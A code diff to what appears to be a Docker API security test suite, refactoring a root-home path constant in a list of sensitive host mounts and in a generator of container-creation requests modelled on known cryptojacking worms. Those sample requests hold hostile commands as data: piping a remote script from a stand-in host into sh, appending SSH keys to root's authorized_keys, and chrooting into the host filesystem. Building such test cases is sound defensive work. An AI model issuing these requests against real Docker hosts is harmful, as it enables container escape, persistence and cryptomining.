@@ -10,10 +10,11 @@ from dataclasses import dataclass
 from urllib.parse import quote
 
 ROOT_BINDS = ("/:/mnt", "/:/host", "/:/mnt:rw", "/:/hostfs:ro", "/:/mnt:rslave", "//:/mnt", "/./:/mnt", "/../:/m")
+ROOTS_HOME = "/root"
 SENSITIVE_SOURCES = (
     "/etc",
-    "/root",
-    "/root/.ssh",
+    ROOTS_HOME,
+    f"{ROOTS_HOME}/.ssh",
     "/home",
     "/var/run/docker.sock",
     "/run/docker.sock",
@@ -145,7 +146,9 @@ def worms() -> Iterator[Attack]:
     yield create("Akamai 2025", {"Binds": ["/:/h:rw"]}, Cmd=firewall)
     yield create("Cetus", {"Binds": ["/:/mnt"], "RestartPolicy": {"Name": "always"}}, Image="ubuntu", Hostname="cache")
     yield create("Kinsing", {"Binds": ["/:/mnt"], "Privileged": True}, Cmd=["sh", "-c", "wget -q -O - x/d.sh | sh"])
-    yield create("Kinsing, ssh key", {"Binds": ["/root/.ssh:/k"]}, Cmd=["sh", "-c", "cat k >> /k/authorized_keys"])
+    yield create(
+        "Kinsing, ssh key", {"Binds": [f"{ROOTS_HOME}/.ssh:/k"]}, Cmd=["sh", "-c", "cat k >> /k/authorized_keys"]
+    )
     yield create("Dero", {"Binds": ["/:/rootfs"], "RestartPolicy": {"Name": "always"}}, Image="ubuntu:18.04")
     yield create("SRBMiner", {"Binds": ["/:/mnt"], "NetworkMode": "host"}, Cmd=["chroot", "/mnt", "bash"])
     yield create("Doki", {"Binds": ["/:/x"]}, Image="alpine:curl", Cmd=["sh", "-c", "curl -s 198.51.100.9 | sh"])
